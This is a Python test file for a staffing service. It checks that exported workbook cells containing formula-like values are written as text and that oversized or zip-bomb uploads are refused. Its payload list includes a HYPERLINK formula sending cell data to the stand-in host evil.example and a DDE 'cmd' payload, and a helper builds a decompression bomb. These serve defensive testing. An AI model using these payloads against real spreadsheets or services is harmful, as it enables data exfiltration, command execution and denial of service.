"""Finding 3: exported cells never become live formulas; uploads are bounded after decompression.

OWASP's CSV-injection guidance: a value that begins with =, +, -, @, tab or CR is written as text.
An uploaded workbook is refused before it is parsed whole when it exceeds the configured
decompressed size, sheet count or row count.
"""

from __future__ import annotations

import io
import uuid
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook, load_workbook

from services.sharing.models import Settlement, Teacher, Unit
from services.sharing.settlements.service import workbook as settlement_workbook
from services.staffing.app import create_app
from services.staffing.settings import StaffingSettings
from services.staffing.spreadsheets.service import XLSX
from tests.staffing.support import Api
from tests.support import running, service_settings

DANGEROUS = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,2)",
    "\t=1+1",
    "\r=1+1",
]


def cells(content: bytes) -> list[tuple[object, str]]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [(c.value, c.data_type) for row in sheet.iter_rows() for c in row]


def assert_text_only(content: bytes, values: list[str]) -> None:
    found = cells(content)
    assert not [v for v, kind in found if kind == "f"], "a cell was written as a formula"
    # XML turns a lone carriage return into a line feed; either way the cell is the text typed.
    written = [v.replace("\r", "\n") if isinstance(v, str) else v for v, _ in found]
    for value in values:
        assert value.replace("\r", "\n") in written, f"{value!r} was not kept as text"


@pytest.fixture
async def api(make_database, identity, nats_server):
    settings = service_settings(
        StaffingSettings,
        identity,
        await make_database("staffing"),
        nats_server.url,
        import_max_sheets=2,
        import_max_rows=50,
        import_max_uncompressed_bytes=2_000_000,
    )
    app = create_app(settings)
    async with running(app) as client:
        yield Api(client, identity, app.state.db)


async def test_staffing_ledger_export_writes_formula_like_values_as_text(api):
    for n, document_no in enumerate(DANGEROUS):
        book = Workbook()
        sheet = book.active
        sheet.append(["code", "name", "kind", "district_code", "stages", "lat", "lon", "bianzhi"])
        sheet.append([f"D{n}", "新区", "district", None, None, None, None, None])
        sheet.append([f"D{n}-S1", "一小", "school", f"D{n}", "primary", 30.6, 104.0, 2])
        out = io.BytesIO()
        book.save(out)
        imported = await api.call(
            "POST",
            "/v1/imports/units",
            params={"document_no": document_no.strip()},
            content=out.getvalue(),
            headers={"content-type": XLSX},
        )
        assert imported.status_code == 200, imported.text
    exported = await api.call("GET", "/v1/exports/ledger")
    assert exported.status_code == 200
    assert_text_only(exported.content, [d.strip() for d in DANGEROUS])


def test_settlement_export_writes_formula_like_values_as_text():
    home = Unit(id=uuid.uuid4(), kind="school", code="S", name="=1+1", stages=[])
    rows = []
    for value in DANGEROUS:
        teacher = Teacher(id=uuid.uuid4(), unit_id=home.id, name=value, weekly_cap=4)
        settlement = Settlement(
            id=uuid.uuid4(),
            month="2026-10",
            teacher_id=teacher.id,
            home_unit_id=home.id,
            title=value,
            periods=4,
            amount_cents=40000,
            adjustment_periods=0,
            adjustment_cents=0,
            total_cents=40000,
            issued_at=datetime.now(UTC),
        )
        rows.append((settlement, teacher, home))
    assert_text_only(settlement_workbook(rows, "2026-10"), [*DANGEROUS, "=1+1"])


def workbook_bytes(sheets: int = 1, rows: int = 2) -> bytes:
    book = Workbook()
    for n in range(sheets):
        sheet = book.active if n == 0 else book.create_sheet(f"s{n}")
        sheet.append(["code", "name", "kind", "district_code", "stages", "bianzhi"])
        for r in range(rows):
            sheet.append([f"D{n}-{r}", "区", "district", None, None, None])
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def with_bomb(content: bytes, size: int) -> bytes:
    """The workbook plus one entry of `size` zero bytes: tiny compressed, huge decompressed."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as src,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst,
    ):
        for item in src.infolist():
            dst.writestr(item, src.read(item))
        dst.writestr("xl/media/padding.bin", b"\0" * size)
    return out.getvalue()


@pytest.mark.parametrize(
    ("content", "field"),
    [
        (with_bomb(workbook_bytes(), 3_000_000), "body"),
        (workbook_bytes(sheets=3), "body"),
        (workbook_bytes(rows=60), "body"),
    ],
    ids=["decompressed-size", "sheets", "rows"],
)
async def test_oversized_workbooks_are_refused_and_import_nothing(api, content, field):
    response = await api.call(
        "POST", "/v1/imports/units", content=content, headers={"content-type": XLSX}
    )
    assert response.status_code in (413, 422), response.text
    assert response.headers["content-type"] == "application/problem+json"
    assert field in [e["field"] for e in response.json()["errors"]]
    assert (await api.ok("GET", "/v1/units"))["data"] == []
